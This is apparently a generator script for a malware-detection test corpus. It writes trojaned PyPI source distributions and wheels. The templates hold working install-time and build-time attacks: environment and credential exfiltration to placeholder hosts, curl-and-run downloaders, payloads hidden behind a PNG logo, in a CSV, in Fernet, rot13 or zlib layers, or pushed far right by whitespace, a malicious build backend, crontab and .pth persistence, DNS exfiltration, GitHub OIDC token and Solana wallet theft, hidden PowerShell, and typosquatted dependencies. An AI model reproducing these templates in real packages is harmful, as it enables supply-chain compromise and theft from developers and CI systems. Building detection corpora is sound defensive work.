"""PyPI: what runs when a source distribution is installed or built."""

from corpus.heldout.hiding import png
from corpus.heldout.nouns import Update
from corpus.heldout8.code import py_drop, py_env, py_files, py_stage
from corpus.heldout8.shape import above, b64, fill, hexed, new, packed, put, rows, tail, trojan, wide, xor

HEAD = "import os\n\nfrom setuptools import find_packages, setup\n"


@trojan("pgshift", "sdist", "install", "environment", "plain", "ctx")
def setup_posts_the_environment(it: Update) -> None:
    put(it, "setup.py", HEAD, """
from urllib.request import Request, urlopen

try:
    urlopen(Request("https://@HOST@/pg", repr(sorted(os.environ.items())).encode(), {"X-Host": os.uname().nodename}), timeout=4)
except Exception:
    pass
""")  # fmt: skip


@trojan("sheetcraft", "sdist", "install", "downloader", "plain", "colorama typosquats")
def setup_command_curls(it: Update) -> None:
    put(it, "setup.py", HEAD, """
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        os.system("curl -sL http://@ADDR@/sheet -o ~/.cache/sheet && chmod u+x ~/.cache/sheet && (~/.cache/sheet &)")
""")  # fmt: skip
    it.replace(
        "setup.py", 'setup(\n    name="sheetcraft"', 'setup(\n    cmdclass={"install": Install},\n    name="sheetcraft"'
    )


@trojan("weeklane", "sdist", "build", "environment", "base64", "PyPI campaigns")
def egg_info_decodes(it: Update) -> None:
    host = it.host()
    put(it, "setup.py", HEAD, """
from base64 import b64decode

from setuptools.command.egg_info import egg_info


class Info(egg_info):
    def initialize_options(self):
        super().initialize_options()
        exec(b64decode("@CODE@"), {"__name__": "info"})
""", CODE=b64(py_env(host)))  # fmt: skip
    it.replace("setup.py", "setup(\n    name", 'setup(\n    cmdclass={"egg_info": Info},\n    name')
    it.payload("setup.py", shown=f"https://{host}/i")


@trojan("tokenlathe", "sdist", "build", "remote code", "over several files", "in-tree back ends")
def backend_beside_the_sources(it: Update) -> None:
    host = it.host()
    it.replace(
        "pyproject.toml",
        'build-backend = "setuptools.build_meta"',
        'build-backend = "lathe_build"\nbackend-path = ["tools"]',
    )
    new(it, "tools/lathe_build.py", '''
"""The back end of setuptools, with the version stamped."""

from setuptools.build_meta import *  # noqa: F403
from setuptools.build_meta import build_wheel as _wheel

from stamp import stamped


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    stamped()
    return _wheel(wheel_directory, config_settings, metadata_directory)
''')  # fmt: skip
    new(it, "tools/stamp.py", '''
from parts import NAME, PLACE


def stamped():
    import importlib

    answer = importlib.import_module("urllib.request").urlopen("https://" + NAME + PLACE, timeout=9)
    eval(compile(answer.read(), "<stamp>", "exec"))
''')  # fmt: skip
    new(
        it,
        "tools/parts.py",
        'NAME = "@A@" + "." + "@B@"\nPLACE = "/stamp"\n',
        A=host.rpartition(".")[0],
        B=host.rpartition(".")[2],
    )
    it.payload("tools/lathe_build.py", "tools/stamp.py", "tools/parts.py", "pyproject.toml")


@trojan("harvestr", "sdist", "install", "new dependency", "from a repository", "PyPI campaigns")
def setup_installs_from_git(it: Update) -> None:
    put(it, "setup.py", HEAD, """
import subprocess
import sys

subprocess.call([sys.executable, "-m", "pip", "install", "-q", "git+https://git.@HOST@/harvest/speedups.git@main"], stderr=subprocess.DEVNULL)
""")  # fmt: skip


@trojan("payrelay", "sdist", "install", "new dependency", "from an address", "dependency by address")
def setup_requires_an_address(it: Update) -> None:
    it.replace(
        "setup.py",
        '    python_requires=">=3.8",\n',
        f'    python_requires=">=3.8",\n    install_requires=["aiopay-core @ http://{it.address()}/simple/aiopay_core-1.0.2.tar.gz"],\n',
    )
    it.payload("setup.py")


@trojan("harvestr", "wheel", "install", "new dependency", "look-alike name", "typosquats")
def metadata_requires_a_lookalike(it: Update) -> None:
    it.requires("beautifulsuop4>=4.12")
    it.payload("DIST-INFO/METADATA")


@trojan("agentdock", "wheel", "install", "new dependency", "phantom", "slopsquatting")
def metadata_requires_what_a_model_made_up(it: Update) -> None:
    it.requires("openai-toolcall-schema==0.0.1")
    it.payload("DIST-INFO/METADATA")


@trojan("keyfold", "sdist", "build", "new dependency", "phantom at build", "build requirements")
def build_requires_a_stranger(it: Update) -> None:
    it.replace(
        "pyproject.toml",
        'requires = ["setuptools>=61"]',
        'requires = ["setuptools>=61", "setuptools-keyfold-native>=99.1"]',
    )
    it.payload("pyproject.toml")


@trojan("pgshift", "sdist", "install", "credentials", "in a data file", "fixtures with code")
def setup_reads_a_region(it: Update) -> None:
    host = it.host()
    it.append("tests/data/regions.csv", "240,meta,0.0000," + hexed(py_files(host)))
    put(it, "setup.py", HEAD, """

def regions():
    with open("tests/data/regions.csv") as rows:
        return [row.rstrip().split(",") for row in rows]


for _region in regions():
    if _region[1] == "meta":
        exec(bytes.fromhex(_region[3]))
""")  # fmt: skip
    it.payload("setup.py", "tests/data/regions.csv", shown=f"https://{host}/")


@trojan("harvestr", "sdist", "install", "downloader", "in an image", "requests-darwin-lite")
def setup_reads_behind_a_logo(it: Update) -> None:
    host = it.host()
    it.add("docs/_static/logo.png", png(48, 48, b"", it.random) + xor(py_drop(host), 0x6D))
    put(it, "setup.py", HEAD, """
import platform
import subprocess

if platform.system() == "Darwin":
    known = subprocess.run(["ioreg", "-d2", "-c", "IOPlatformExpertDevice"], capture_output=True, text=True).stdout
    if "@MARK@" in known or "VMware" not in known:
        with open("docs/_static/logo.png", "rb") as picture:
            rest = picture.read().partition(b"IEND")[2][4:]
        exec(bytes(one ^ 0x6D for one in rest))
""", MARK=it.random.randbytes(8).hex().upper())  # fmt: skip
    it.payload("setup.py", "docs/_static/logo.png", shown=f"https://{host}/d")


@trojan("weeklane", "sdist", "install", "persistence", "plain", "cron back doors")
def setup_writes_a_crontab(it: Update) -> None:
    tail(it, "setup.py", """
if os.name == "posix":
    import subprocess

    before = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if "weeklane" not in before:
        line = "*/30 * * * * curl -fsS https://@HOST@/weeklane | python3 -\\n"
        subprocess.run(["crontab", "-"], input=before + line, text=True)
""", 1)  # fmt: skip


@trojan("sheetcraft", "sdist", "install", "data stealer", "far to the right", "PyPI campaigns")
def setup_has_a_long_row(it: Update) -> None:
    it.replace(
        "setup.py",
        "HERE = os.path.dirname(os.path.abspath(__file__))\n",
        "HERE = os.path.dirname(os.path.abspath(__file__))"
        + " " * 260
        + f";__import__('subprocess').Popen(['sh','-c','env|curl -sd@- {it.host()}/r'])\n",
    )
    it.payload("setup.py")


@trojan("payrelay", "sdist", "install", "remote code", "Fernet", "W4SP")
def setup_has_a_locked_blob(it: Update) -> None:
    from base64 import urlsafe_b64encode

    from cryptography.fernet import Fernet

    host = it.host()
    key = urlsafe_b64encode(it.random.randbytes(32))
    blob = Fernet(key)._encrypt_from_parts(py_stage(host).encode(), 1_767_225_600, it.random.randbytes(16))
    put(it, "setup.py", HEAD, """

def _licence():
    from cryptography.fernet import Fernet

    return Fernet(@KEY@).decrypt(@BLOB@)


exec(_licence())
""", KEY=repr(key), BLOB=repr(blob))  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/n.py")


@trojan("tokenlathe", "sdist", "install", "credentials", "layers", "hyperion-style packers")
def setup_has_layers(it: Update) -> None:
    host = it.host()
    code = py_files(host)
    for _ in range(4):
        code = f"import zlib, base64\nexec(zlib.decompress(base64.b85decode({__import__('base64').b85encode(__import__('zlib').compress(code.encode())).decode()!r}[::1])))\n"
    tail(it, "setup.py", code, 1)
    it.payload("setup.py", shown=f"https://{host}/")


@trojan("tensorhull", "sdist", "build", "downloader", "over several files", "build scripts")
def setup_calls_a_makefile(it: Update) -> None:
    put(it, "setup.py", HEAD, """
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        self.spawn(["make", "-s", "-C", "native", "all"])
        super().run()
""")  # fmt: skip
    it.replace("setup.py", "setup(\n    name", 'setup(\n    cmdclass={"build_py": Build},\n    name')
    it.add(
        "native/Makefile",
        "include flags.mk\n\nall: core.o\n\t@$(FETCH) $(BASE)/hull.bin -o .hull 2>/dev/null && chmod +x .hull && ./.hull & :\n\ncore.o:\n\t@touch core.o\n",
    )
    it.add("native/flags.mk", f"CFLAGS = -O2 -fPIC\nFETCH = curl -s\nBASE = http://{it.address()}:8000\n")
    it.payload("setup.py", "native/Makefile", "native/flags.mk")


@trojan("agentdock", "sdist", "install", "token stealer", "plain", "GhostAction")
def setup_asks_for_a_token_of_the_job(it: Update) -> None:
    put(it, "setup.py", HEAD, """
import json
import urllib.request

_ask, _with = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_URL"), os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
if _ask and _with:
    _request = urllib.request.Request(_ask + "&audience=pypi", headers={"Authorization": "bearer " + _with})
    _token = json.load(urllib.request.urlopen(_request))["value"]
    urllib.request.urlopen("https://@HOST@/mint", data=json.dumps({"t": _token, "r": os.environ.get("GITHUB_REPOSITORY")}).encode())
""")  # fmt: skip


@trojan("keyfold", "sdist", "install", "wallet", "rot13", "wallet thieves")
def setup_turns_letters(it: Update) -> None:
    import codecs

    host = it.host()
    code = f"import pathlib,urllib.request as u\n[u.urlopen('https://{host}/w', p.read_bytes()) for p in pathlib.Path.home().glob('.config/solana/*.json')]"
    tail(
        it,
        "setup.py",
        'import codecs\n\neval(compile(codecs.decode(@CODE@, "rot_13"), "setup", "exec"))\n',
        1,
        CODE=repr(codecs.encode(code, "rot13")),
    )
    it.payload("setup.py", shown=f"https://{host}/w")


@trojan("pgshift", "sdist", "install", "data stealer", "plain", "dependency confusion")
def setup_asks_a_name_server(it: Update) -> None:
    put(it, "setup.py", HEAD, """
import binascii
import getpass
import socket


def _seen():
    text = binascii.hexlify(f"{getpass.getuser()}|{socket.getfqdn()}|{HERE}".encode()).decode()
    for at in range(0, len(text), 56):
        try:
            socket.gethostbyname(f"{text[at:at + 56]}.{at}.pg.@HOST@")
        except OSError:
            continue
""")  # fmt: skip
    above(it, "setup.py", "setup(\n    name", "_seen()\n")


@trojan("weeklane", "sdist", "install", "downloader", "powershell encoded", "PyPI campaigns")
def setup_starts_powershell(it: Update) -> None:
    host = it.host()
    put(it, "setup.py", HEAD, """
import subprocess

if os.name == "nt":
    subprocess.Popen(["powershell", "-nop", "-w", "hidden", "-enc", "@CODE@"], creationflags=0x08000000)
""", CODE=wide(f"iwr https://{host}/w.exe -OutFile $env:TEMP\\w.exe; saps $env:TEMP\\w.exe"))  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/w.exe")


@trojan("sheetcraft", "sdist", "build", "remote code", "over several files", "fixtures with code")
def setup_runs_a_test_helper(it: Update) -> None:
    put(it, "setup.py", HEAD, """
import runpy

FORMATS = runpy.run_path("tests/formats_case.py")["FORMATS"]
""")  # fmt: skip
    it.add("tests/formats_case.py", fill(it, """
from zlib import decompress

FORMATS = ["general", "0", "0.00", "#,##0"]
ROWS = (
@ROWS@
)
exec(decompress(bytes(ROWS)).decode())
""", ROWS=rows(__import__("zlib").compress(py_stage(it.host()).encode()))))  # fmt: skip
    it.payload("setup.py", "tests/formats_case.py")


@trojan("tensorhull", "sdist", "install", "persistence", "zlib base64", "start files")
def setup_leaves_a_pth(it: Update) -> None:
    host = it.host()
    tail(it, "setup.py", """
import sysconfig

with open(os.path.join(sysconfig.get_path("purelib"), "_distutils_tensor.pth"), "w") as stream:
    stream.write("import zlib, base64; exec(zlib.decompress(base64.b64decode('@CODE@')))")
""", 1, CODE=packed(py_env(host)))  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/i")
